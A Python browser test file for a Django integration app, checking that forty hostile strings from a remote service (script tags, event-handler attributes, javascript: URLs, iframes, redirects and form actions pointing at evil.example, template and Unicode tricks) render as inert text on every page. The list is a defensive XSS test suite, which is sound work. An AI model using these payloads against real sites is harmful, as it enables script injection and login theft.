"""Row H6: whatever SnapInspect's server says, it is text. Forty strings that browsers have taken for something else, in
every field of every page that shows what came from the remote, in a real Chromium."""

import base64
import json
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.utils import timezone
from playwright.sync_api import BrowserContext, Dialog, Page, Request
from pytest_django import Settings
from pytest_django.live_server_helper import LiveServer

from accounts.models import Customer, User
from integrations.models import Connection, Delivery, Event, EventDelivery, Panel
from tests.browser.test_main_path import CHROMIUM
from tests.browser.test_screens import chromium, context, listen, playwright, profile, sign_in
from tests.support.clients import Sandbox, Visitor
from tests.support.measurements import record
from tests.support.sizes import size

__all__ = ["chromium", "context", "playwright", "profile"]  # fixtures
pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is missing (apt-get install chromium)"),
]

STRINGS = [
    "<script>pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>pwned=1</SCRIPT >",
    "</script><script>pwned=1</script>",
    "</pre><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    '" onmouseover="pwned=1" autofocus onfocus="pwned=1',
    "' onmouseover='pwned=1' autofocus onfocus='pwned=1",
    "` onmouseover=`pwned=1`",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=pwned=1>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:pwned=1>",
    "<embed src=javascript:pwned=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form action=//evil.example/><button>Sign in</button></form>",
    "<details open ontoggle=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<body onload=pwned=1>",
    "<a href=javascript:pwned=1>Click</a>",
    "javascript:pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "{{ 7|add:7 }}{% debug %}${pwned=1}#{pwned=1}",
    '<div hx-get="//evil.example/" hx-trigger="load" hx-on:click="pwned=1">',
    '<p data-hx-get="/" data-badge>Connected</p>',
    "\u202e<script>pwned=1</script>\u2066",
    "\ufeff\u0001<scr\u200bipt>pwned=1</scr\u200bipt>&lt;script&gt;pwned=1&lt;/script&gt;&#60;script&#62;",
]


def test_H6_hostile_text_from_the_remote_is_inert_on_every_page_that_shows_it(
    sandbox: Sandbox,
    live_server: LiveServer,
    context: BrowserContext,
    settings: Settings,
    alice: User,
    acme: Customer,
) -> None:
    settings.ALLOWED_HOSTS = ["localhost"]
    assert len(STRINGS) == len(set(STRINGS)) == 40
    connection = connect(sandbox, alice, acme)
    rows = [{"iInspectionID": text, "sTitle": text, text: {text: [text]}} for text in STRINGS]
    columns = "\n".join(f"{label.replace(':', ' ')[:50]}: {path}" for label, path in COLUMNS)
    panel = Panel.objects.create(title=STRINGS[0], path="rows", rows_at=r"a\.b", columns=columns, is_active=True)
    odd = Panel.objects.create(title="Odd", path="odd", rows_at="x", columns=columns, is_active=True)
    says(sandbox, "/rows", {"a.b": rows})
    says(sandbox, "/odd", {"x": {text: text for text in STRINGS}})
    says(sandbox, "/text", "\n".join(STRINGS).encode())
    events = hostile_events(connection)

    at = f"http://localhost:{urlsplit(live_server.url).port}"
    User.objects.filter(pk=alice.pk).update(is_staff=True, is_superuser=True)
    sign_in(context, alice, at)
    page = context.new_page()
    watch = Watch(page, at)
    home = f"{at}/c/{acme.code}/"
    below = f"{home}connections/{connection.code}/"
    pages = [home, f"{home}events/", f"{below}panels/account/", f"{below}panels/{panel.code}/"]
    pages += [f"{below}panels/{odd.code}/", f"{below}activity/"]
    pages += [f"{home}events/{event.code}/" for event in events[: size(4, 40)]]
    for address in pages:
        watch.open(address)
        watch.look(address)
    for path in ("rows", "text"):
        page.goto(f"{home}explorer/")
        page.get_by_label("Path").fill(path)
        page.get_by_role("button", name="Send", exact=True).click()
        page.wait_for_load_state("networkidle")
        assert page.locator("#answer").count() == 1
        watch.look(f"explorer: {path}")
    page.goto(home)
    page.get_by_role("button", name="Test connection").first.click()
    page.wait_for_load_state("networkidle")
    watch.look("test")

    for address in of_staff(connection):
        watch.open(at + address)
        watch.look(address)
    for tried in (panel, odd):
        page.goto(f"{at}/admin/integrations/panel/{tried.pk}/change/")
        page.locator(".select2-selection").click()
        page.locator(".select2-search__field").fill(connection.code)
        page.locator(".select2-results__option", has_text=connection.code).click()
        page.get_by_role("button", name="Preview").click()
        page.wait_for_load_state("networkidle")
        page.locator("#preview h2").wait_for()  # a table, or why there is none
        watch.look(f"preview: {tried}")

    # Every string was there to be looked at, as text.
    page.goto(f"{below}panels/{panel.code}/")
    shown = "".join(page.locator("tbody").all_text_contents())
    assert [text for text in STRINGS if text not in shown] == []
    record("H6", "40 hostile strings in every field from the remote", f"{watch.told()} on {watch.pages} pages")
    assert watch.found == []


COLUMNS = [("Title <img src=x onerror=pwned=1>", "sTitle"), ("Number", "iInspectionID"), ("All", "."), ("None", "zz")]


class Watch:
    """Notes whatever ran, was refused by the content security policy, or went elsewhere."""

    def __init__(self, page: Page, at: str) -> None:
        self._page = page
        self.pages = 0
        self.found: list[str] = []
        page.add_init_script(
            "addEventListener('securitypolicyviolation', e => console.error('CSP', e.violatedDirective, e.blockedURI))"
        )
        self._complaints = listen(page)
        page.on("dialog", self._dismiss)
        page.on("request", self._note_leaving)
        self._at = at

    def open(self, address: str) -> None:
        """A page that breaks shows nothing that could be hostile."""
        answer = self._page.goto(address, wait_until="networkidle")
        assert answer is not None
        assert answer.status == 200, address

    def look(self, where: str) -> None:
        self.pages += 1
        # Whoever waits for a pointer, or for the focus, gets it.
        self._page.mouse.move(400, 400)
        self._page.keyboard.press("Tab")
        if self._page.evaluate("typeof pwned !== 'undefined'"):
            self.found.append(f"a script ran: {where}")
        elements = [
            "script:not([src^='/static/'])",
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "[onerror]",
            "[onload]",
        ]
        odd = ", ".join(f"main {element}" for element in elements)
        if self._page.locator(odd).count():
            self.found.append(f"markup came through: {where}")
        self.found += [f"{where}: {text}" for text in self._complaints]
        self._complaints.clear()

    def _dismiss(self, dialog: Dialog) -> None:
        self.found.append(f"a script ran: dialog {dialog.message}")
        dialog.dismiss()

    def _note_leaving(self, asked: Request) -> None:
        if not asked.url.startswith(self._at):
            self.found.append(f"asked for {asked.url}")

    def told(self) -> str:
        scripts = sum("script ran" in one for one in self.found)
        return f"{scripts} scripts run, {sum('CSP' in one for one in self.found)} CSP reports"


def connect(sandbox: Sandbox, alice: User, acme: Customer) -> Connection:
    """A connection whose every name, and whatever else /user says, is hostile."""
    wild: dict[str, Any] = {f"x{number} {text}": text for number, text in enumerate(STRINGS)}
    names = {"iCompanyID": 6847, "sName": STRINGS[9], "sEmail": STRINGS[13], "sCompanyName": STRINGS[36]}
    says(sandbox, "/user", names | wild)
    browser = Visitor()
    browser.force_login(alice)
    connection = browser.connect(acme, sandbox)
    assert (connection.account_name, connection.company_name) == (STRINGS[9], STRINGS[36])
    return connection


def of_staff(connection: Connection) -> list[str]:
    """Addresses in the admin that show what came from the remote."""
    below = "/admin/integrations"
    deliveries = Delivery.objects.order_by("pk").values_list("pk", flat=True)[: size(4, 40)]
    return [
        f"{below}/connection/",
        f"{below}/connection/{connection.pk}/change/",
        f"/admin/accounts/customer/{connection.customer_id}/change/",
        f"{below}/event/",
        f"{below}/delivery/",
        *(f"{below}/delivery/{pk}/change/" for pk in deliveries),
    ]


def hostile_events(connection: Connection) -> list[Event]:
    """One event per string, with it in all that a delivery or an inspection may bring."""
    made = []
    for text in STRINGS:
        body = json.dumps({"sType": text, "iInspectionID": text, text: text}).encode()
        delivery = Delivery.objects.create(body=body, content_type=text[:100], state=Delivery.State.PLACED)
        event = Event.objects.create(
            connection=connection,
            type=text[:40],
            inspection_id=text[:20],
            company_id=text[:20],
            state=Event.State.DONE,
            content=json.dumps({text: [text, {"sTitle": text}]}),
            content_sha256="0" * 64,
            received_at=timezone.now(),
        )
        EventDelivery.objects.create(event=event, delivery=delivery)
        made.append(event)
    return made


def says(sandbox: Sandbox, path: str, document: Any) -> None:
    body = document if isinstance(document, bytes) else json.dumps(document).encode()
    sandbox.fault(path, "raw", body_base64=base64.b64encode(body).decode(), times=None)
